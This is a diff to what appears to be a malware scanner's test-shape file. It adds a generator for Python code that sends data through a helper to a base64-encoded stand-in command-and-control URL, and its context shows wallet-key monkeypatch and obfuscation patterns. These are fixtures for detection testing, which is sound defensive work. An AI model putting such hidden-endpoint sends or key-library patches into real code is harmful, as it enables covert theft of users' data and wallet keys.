@@ -75,6 +75,9 @@ export const SHAPES: Record<string, (n: number) => string> = {
   // wallet-monkeypatch reads every line of a file that imports a key library, and looks up at most 32 hits.
   'key-library patches in one function': (n) =>
     `from eth_account import Account\ndef f():\n${lines(n, (i) => `    Account.from_key${i % 9} = g`)}`,
+  // hidden-endpoint indexes callers and domains once per file, and looks assignments up within bounded reach.
+  'hidden sends through one helper': (n) =>
+    `def send(u, d):\n${lines(n / 2, (i) => `    requests.post(u, data=d${i % 9})`)}\n${lines(n / 2, (i) => `send(b64decode("aHR0cDovL2MyLmV4YW1wbGUv").decode() + "${i}", x)`)}`,
   'chr chains': (n) => `x = ${repeatTo('chr(1)+', n)}chr(1)\n`,
   'obfuscator markers': (n) => repeatTo('# pyarmor_runtime Hyperion Hyperion Hyperion\nf()\n', n),
   'obfuscated names': (n) => lines(n, (i) => `_0x${i.toString(16).padStart(5, '0')} = IlIlIl${i % 7}`),
